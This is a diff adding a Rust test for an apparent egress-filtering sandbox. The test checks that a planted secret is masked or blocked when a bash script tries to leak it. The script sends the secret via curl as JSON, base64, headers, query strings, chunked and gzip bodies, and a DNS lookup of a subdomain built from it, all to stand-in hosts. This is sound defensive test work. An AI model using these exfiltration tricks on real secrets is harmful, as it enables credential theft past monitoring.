@@ -109,3 +109,54 @@ code -d 'x=ordinary' https://allowed.example/repo/ordinary
     assert_eq!(warned.out, "200\n200\n200\n200\n", "{warned:?}");
     assert!(serde_json::to_string(&world.events()).unwrap().contains("\"action\":\"warn\""));
 }
+
+#[test]
+fn a_masked_secret_leaves_as_so_many_letters_or_not_at_all() {
+    let world = World::new();
+    let policy = world.policy(&format!("{NETWORK}\n[leaks]\nscan = [\"egress\"]\naction = \"mask\"\n"));
+    let secret = "Zq8mT4vKx2LwP9nRb7JdYc5HsGf3AeUi1Qo6";
+    world.place.write("secret", secret);
+    let script = world.place.write(
+        world.place.base.path().join("script.sh"),
+        r#"
+s=$(cat secret)
+code() { curl -sm9 -o body -w '%{http_code}\n' "$@"; }
+code --json "{\"a\": [\"$s\"]}" https://allowed.example/repo/json
+code -d "$(printf %s "$s" | base64)=" https://allowed.example/repo/base64
+code -H "X-Note: it is $s." "https://allowed.example/repo/head?a=$s&b=c"
+{ head -c 90000 /dev/zero | tr '\0' a; printf %s "first $s second ${s:0:20}"; sleep 0.1; printf %s "${s:20} end"; } \
+    | tee large | code -T - -X POST https://allowed.example/repo/large
+[[ $(cat body) = "$(sed "s/$s/${s//?/x}/g" large | sha256sum | cut -d' ' -f1)" ]] && echo same
+code -H 'Content-Encoding: gzip' --data-binary @<(gzip < secret) https://allowed.example/repo/packed
+getent hosts "${s:0:30}.wild.example" || echo none
+code -d 'x=ordinary' https://allowed.example/repo/ordinary
+"#,
+    );
+    let outcome = world.host(&format!(
+        "export SSL_CERT_FILE=$BASE/ca.pem APP_TOKEN={secret}; exec \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c \"$(cat {})\"",
+        script.display()
+    ));
+    assert_eq!(
+        outcome.out,
+        "200\n200\n200\n200\nsame\n403\nnone\n200\n",
+        "{outcome:?} {:#?}",
+        world.events()
+    );
+    let (heads, bodies) = (world.log("heads.log"), world.log("bodies.log"));
+    let x = "x".repeat(secret.len());
+    for (log, text) in [
+        (&bodies, format!("{{\"a\": [\"{x}\"]}}")),
+        (&heads, format!("it is {x}.")),
+        (&heads, format!("/repo/head?a={x}&b=c")),
+        (&bodies, "x=ordinary".to_owned()),
+    ] {
+        assert!(log.contains(&text), "{text}\n{heads}\n{}", &bodies[bodies.len().saturating_sub(3000)..]);
+    }
+    let events = serde_json::to_string(&world.events()).unwrap();
+    for part in [&secret[..8], &secret[28..], "WnE4bVQ0dkt4Mkx3"] {
+        assert!(!heads.contains(part) && !bodies.contains(part) && !events.contains(part), "{part}");
+    }
+    for action in ["mask", "block"] {
+        assert!(events.contains(&format!("\"action\":\"{action}\"")), "{action}: {events}");
+    }
+}
